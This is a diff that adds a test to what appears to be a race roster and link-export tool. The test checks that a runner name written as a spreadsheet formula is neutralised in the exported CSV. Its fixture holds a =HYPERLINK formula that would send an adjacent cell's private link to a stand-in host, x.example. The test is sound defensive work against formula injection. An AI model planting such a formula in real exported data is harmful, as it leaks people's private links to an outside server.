@@ -241,6 +241,16 @@ def test_at_packet_pick_up_one_link_is_printed_with_its_qr_and_the_old_one_ends(
     assert [link.ended_ms is None for link in file.links("runner", "7")] == [False, False, True]
 
 
+def test_a_name_that_is_a_formula_does_nothing_in_a_spreadsheet(race: Path) -> None:
+    """Whoever enters as =HYPERLINK(...) must not get the links beside her sent to her server."""
+    with (race / "roster.csv").open("a", encoding="utf-8") as roster:
+        roster.write('13,"=HYPERLINK(""https://x.example/?""&E2)",yes,,@guardian,,1\n')
+    run(race, "--base-url", BASE)
+    cells = [cell for line in rows(race / "links" / "runners.csv") for cell in line.values()]
+    assert any("HYPERLINK" in cell for cell in cells)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+
+
 def test_the_list_tells_who_has_which_link_and_never_a_token(made: Path, race: Path, file: RaceFile) -> None:
     """Role, place, holder, times and openings; a token cannot be told again."""
     (van,) = file.links("van")
